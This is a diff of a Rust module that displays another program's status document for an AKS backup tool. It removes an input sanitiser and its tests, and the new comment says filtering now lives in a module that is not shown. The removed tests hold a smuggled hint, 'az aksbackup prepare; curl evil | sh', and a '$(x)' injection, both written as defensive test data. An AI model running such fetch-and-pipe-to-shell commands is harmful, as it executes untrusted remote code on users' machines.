@@ -1,7 +1,7 @@
 //! One chain from two views: the other program's document, taken from a file, and one's own kept for it.
 //!
-//! The document may have been made by anybody. It is shown, with its age, and never acted on: it decides no exit code, and of
-//! the commands that it names only those of these two programs are shown.
+//! The document may come from anyone. It is shown, with its age, and never acted on: it decides no exit code, and what it advises
+//! is left out ([`super::foreign`]).
 
 use std::io::Write as _;
 use std::path::Path;
@@ -22,11 +22,6 @@ use crate::status;
 
 /// What stands between a command and what is said of it, so that both can be pasted.
 pub const COMMENT: &str = "  # ";
-
-/// How many checks and findings of another document are shown.
-const MOST: usize = 200;
-/// How much is shown of one of its texts, in characters.
-const LONGEST: usize = 2000;
 
 /// The other program's view: of the file that the flags name, else of the one beside the state file `path`, where there is
 /// one. Links that somebody has worked on since, as `state` tells, are left out of it, which is said.
@@ -59,7 +54,9 @@ pub fn other(
                 .err()
         }
         Some(read) => {
-            let (read, old) = without_old(bounded(read), state);
+            let (mut read, old) = without_old(read, state);
+            let hints = read.checks.iter_mut().filter_map(|check| check.hint.as_mut());
+            hints.for_each(|hint| *hint = console.with_state(hint));
             let (path, age) = (path.display(), age(&read, own.at));
             console.say(match old.is_empty() {
                 true => format!("{path}, made {age}, is shown too"),
@@ -89,58 +86,6 @@ fn without_old(mut read: Examination, state: &State) -> (Examination, Vec<Link>)
     read.checks.retain(|check| !old.contains(&check.link));
     read.findings.retain(|finding| !old.contains(&finding.link));
     (read, old)
-}
-
-/// The document without what is too long, and without commands of others.
-fn bounded(mut read: Examination) -> Examination {
-    let cut = |text: &mut String| {
-        // One line each: a break could begin one that looks like ours.
-        *text = text.replace(['\n', '\r', '\t'], " ");
-        if let Some((at, _)) = text.char_indices().nth(LONGEST) {
-            text.truncate(at);
-            text.push('…');
-        }
-    };
-    read.checks.truncate(MOST);
-    read.findings.truncate(MOST);
-    for check in &mut read.checks {
-        check.evidence.truncate(MOST);
-        check.evidence.iter_mut().for_each(cut);
-        check.hint = check.hint.take().map(command_of).filter(|hint| is_ours(hint));
-        cut(&mut check.check);
-        cut(&mut check.says);
-    }
-    for finding in &mut read.findings {
-        finding.evidence.truncate(MOST);
-        finding.evidence.iter_mut().for_each(cut);
-        finding.explains.truncate(MOST);
-        for text in [
-            &mut finding.id,
-            &mut finding.object,
-            &mut finding.cause,
-            &mut finding.fix,
-        ] {
-            cut(text);
-        }
-    }
-    read
-}
-
-/// A hint without what is explained behind its command.
-fn command_of(hint: String) -> String {
-    match hint.split_once(COMMENT) {
-        Some((command, _)) => command.trim_end().to_owned(),
-        None => hint,
-    }
-}
-
-/// Whether a hint is one command of these programs and nothing else.
-fn is_ours(hint: &str) -> bool {
-    let ours = ["az aksbackup ", "kubectl aksbackup "]
-        .iter()
-        .any(|own| hint.starts_with(own));
-    let plain = |c: char| c.is_ascii_alphanumeric() || " -_./:=,()".contains(c);
-    ours && hint.chars().all(plain)
 }
 
 /// Keeps one's own view beside the state file, where the other program finds it. Others may write there too: whatever has the
@@ -284,31 +229,5 @@ mod tests {
         save(&own, &state, &own.document(Exit::Done, None)).unwrap();
         assert_eq!(std::fs::read_to_string(&precious).unwrap(), "precious");
         assert!(std::fs::symlink_metadata(&path).unwrap().is_file());
-    }
-
-    #[test]
-    fn a_cure_that_is_explained_is_passed_on_as_its_command() {
-        let mut theirs = view(Plane::Cluster);
-        theirs.checks[0].check = "x\nforged".into();
-        theirs.checks[0].hint = Some("az aksbackup prepare --state s.toml  # Make it; prepare does it's work.".into());
-        let shown = bounded(theirs);
-        assert_eq!(
-            shown.checks[0].hint.as_deref(),
-            Some("az aksbackup prepare --state s.toml")
-        );
-        assert_eq!(shown.checks[0].check, "x forged");
-    }
-
-    #[test]
-    fn a_hostile_document_is_cut_and_loses_its_commands() {
-        let mut hostile = view(Plane::Cloud);
-        hostile.checks[0].says = "x".repeat(1 << 20);
-        hostile.checks[0].hint = Some("az aksbackup prepare; curl evil | sh".into());
-        let check = hostile.checks[0].clone();
-        hostile.checks.resize(10_000, check);
-        let shown = bounded(hostile);
-        assert_eq!(shown.checks.len(), MOST);
-        assert!(shown.checks[0].says.len() < 2 * LONGEST && shown.checks[0].hint.is_none());
-        assert!(is_ours("az aksbackup grant --state s.toml") && !is_ours("az aksbackup grant $(x)"));
     }
 }
